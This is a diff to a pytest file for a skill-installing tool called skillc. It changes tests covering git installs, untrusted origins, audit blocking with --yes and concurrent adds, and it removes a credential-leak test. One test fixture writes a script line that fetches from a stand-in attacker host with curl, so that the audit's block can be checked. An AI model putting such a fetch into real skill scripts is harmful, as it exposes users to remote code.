@@ -6,7 +6,6 @@ import json
 import os
 import shutil
 import subprocess
-import sys
 from collections import Counter
 from collections.abc import Callable
 from pathlib import Path
@@ -19,6 +18,7 @@ from skillc.install import read_lock, store
 from skillc.library import import_origin, read_deployments
 from tests.conftest import World
 from tests.support.crash import LIMIT, run_until
+from tests.support.forks import start_skc
 from tests.support.git import Origin, Server
 from tests.support.terminal import on_terminal
 
@@ -57,7 +57,7 @@ def snapshot(folder: Path) -> dict[str, bytes | str]:
 
 @pytest.mark.slow
 def test_git(world: World, home: Path, outside: Path, origin: Origin, server: Server) -> None:
-    """[SURFACES: Getting skills] From a repository into the home's store, the lock and agents' folders."""
+    """[SURFACES: Getting skills] [D46] From a repository into the home, its lock and agents' folders."""
     commit = origin.git("rev-parse", "HEAD")
     value = add(world, server.url, "--skill", "pdf", cwd=outside)
     (entry,) = value["added"]
@@ -75,13 +75,8 @@ def test_git(world: World, home: Path, outside: Path, origin: Origin, server: Se
     assert lock["skillc"]["targets"] == ["claude", "cursor"]
     for place in entry["targets"]:
         assert "skc show pdf" in Path(place, "SKILL.md").read_text()
+    assert import_origin(str(world.global_store.resolve() / "pdf")) == server.url  # not the user's own
     assert not os.listdir(home / ".skillc/cache/downloads")
-
-
-def test_untrusted(world: World, home: Path, outside: Path, origin: Origin) -> None:
-    """[D46] An added skill is not the user's own until a person adopts it."""
-    add(world, f"file://{origin.bare}", "--skill", "pdf", cwd=outside)
-    assert import_origin(str(world.global_store.resolve() / "pdf")) == f"file://{origin.bare}"
 
 
 @pytest.mark.slow
@@ -273,11 +268,11 @@ def test_shown_before(world: World, home: Path, outside: Path) -> None:
 
 @pytest.mark.slow
 def test_blocked(world: World, home: Path, outside: Path) -> None:
-    """[SURFACES: Getting skills] [D65] What the audit blocks is E084, and nothing is written."""
+    """[SURFACES: Getting skills] [D65] What the audit blocks is E084, with --yes too; nothing is written."""
     world.skill("bad", BAD, store=world.root / "mine")
     world.skill("good", store=world.root / "mine")
     before = snapshot(world.root)
-    error = world.fails("E084", "add", str(world.root / "mine"), "--all", cwd=outside).stderr
+    error = world.fails("E084", "add", str(world.root / "mine"), "--all", "--yes", cwd=outside).stderr
     assert "--accept-blocks" in error
     assert "1 block" in error
     assert snapshot(world.root) == before
@@ -298,19 +293,6 @@ def test_policy(world: World, home: Path, outside: Path) -> None:
     script = world.root / "mine/x/run.sh"
     script.write_text("curl https://evil-host.io/x\n")
     world.fails("E084", "add", str(world.root / "mine"), cwd=outside)
-
-
-@pytest.mark.slow
-def test_archive_and_secrets(world: World, home: Path, outside: Path, server: Server) -> None:
-    """[SURFACES: Lock file] Credentials of an address are in no file and in no message."""
-    server.token = "secret-word"
-    address = server.url.replace("://", "://x-access-token:secret-word@")
-    result = world.ok("add", address, "--skill", "pdf", cwd=outside)
-    assert "secret-word" not in result.stdout + result.stderr
-    for path in home.rglob("*"):
-        assert not path.is_file() or b"secret-word" not in path.read_bytes(), path
-    error = world.fails("E080", "add", address.replace("secret-word", "other-secret"), cwd=outside).stderr
-    assert "other-secret" not in error
 
 
 def test_local(world: World, home: Path, outside: Path) -> None:
@@ -410,13 +392,11 @@ def test_hostile_text(world: World, home: Path, origin: Origin) -> None:
 def test_at_once(world: World, home: Path, outside: Path, origin: Origin) -> None:
     """[SURFACES: Getting skills] Two processes that add the same, or two skills, end well."""
     origin.push("one", "two")
-    words = [sys.executable, "-m", "skillc", "add", f"file://{origin.bare}", "--format", "json", "--skill"]
+    words = ["add", f"file://{origin.bare}", "--skill"]
     names = ["one", "two", "one", "two", "one"]
+    pipe = subprocess.PIPE
     processes = [
-        subprocess.Popen(
-            [*words, name], cwd=outside, env=world.env, stdout=subprocess.PIPE, stderr=subprocess.PIPE
-        )
-        for name in names
+        start_skc([*words, name], cwd=outside, env=world.env, stdout=pipe, stderr=pipe) for name in names
     ]
     results = [process.communicate(timeout=120) for process in processes]
     assert [process.returncode for process in processes] == [0] * 5, results
